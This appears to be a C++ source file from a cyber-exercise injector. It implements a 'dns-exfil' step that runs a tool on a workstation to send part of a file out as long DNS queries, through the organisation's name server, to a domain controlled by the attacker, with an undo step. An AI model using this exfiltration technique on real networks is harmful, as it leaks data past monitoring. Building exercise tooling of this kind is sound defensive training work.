// dns-exfil: the beginning of a file goes out in long names, asked of the organisation's name
// server by a workstation's user; the attacker's host answers for the domain and puts the file
// together. It needs the dns service, which forwards the domain.
//
// It leaves question after question with a long name in the name server's log. At most 64 KiB and
// ten questions a second. Its unit has begun when the file was read; that it arrived is telemetry.
// It ends by itself, with the lease, or when it is taken back.
#include "injector/actions/running_unit.h"
#include "injector/key.h"
#include "scenario-dsl/model/step_names.h"

namespace enshu::inject {

nlohmann::json perform(const ActContext &context, const dsl::DnsExfil &exfil) {
    const std::string id = dsl::upload_path(context.step.id).substr(std::string("/drop/").size());
    RunningUnit unit{exfil.on,
                     {"send-names", "--name-server", name_server_for(context, exfil.on), "--domain",
                      exfil.domain, "--id", id, "--file", exfil.what},
                     key_of(context.seed, context.team, context.step.id) + "\n"};
    unit.user = user_of(context, exfil.on);
    nlohmann::json evidence{{"domain", exfil.domain}, {"file", exfil.what}};
    // What is small has gone out, and its unit with it, before it can be asked.
    add_file_facts(start_unit(context, unit), evidence);
    return evidence;
}

void undo(const ActContext &context, const dsl::DnsExfil &exfil) {
    stop_unit(context, exfil.on);
}

} // namespace enshu::inject
